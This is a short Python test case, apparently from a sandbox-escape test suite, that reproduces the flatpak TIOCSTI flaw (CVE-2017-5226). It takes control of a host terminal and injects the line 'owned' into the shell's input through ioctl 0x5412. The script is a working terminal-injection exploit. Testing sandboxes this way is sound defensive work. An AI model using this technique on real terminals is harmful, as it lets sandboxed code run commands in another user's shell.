# guest: types into a terminal of the host
# source: flatpak CVE-2017-5226 (TIOCSTI)
# attacks: the shell behind the terminal
# walls: Seccomp, MinimalDev, Landlock@5
# observer: terminal_typed
# oracle: the terminal's other users read what nobody typed
# status: ok
# credit: ENOENT
import fcntl
import os

from attack import arg, attempt

os.setsid() if os.fork() == 0 else os._exit(0 * os.wait()[0])


def push() -> None:
    terminal = os.open(arg("terminal"), os.O_RDONLY)  # A session leader's first: it controls us now.
    for byte in b"owned\n":
        fcntl.ioctl(terminal, 0x5412, bytes([byte]))


attempt("push", push)
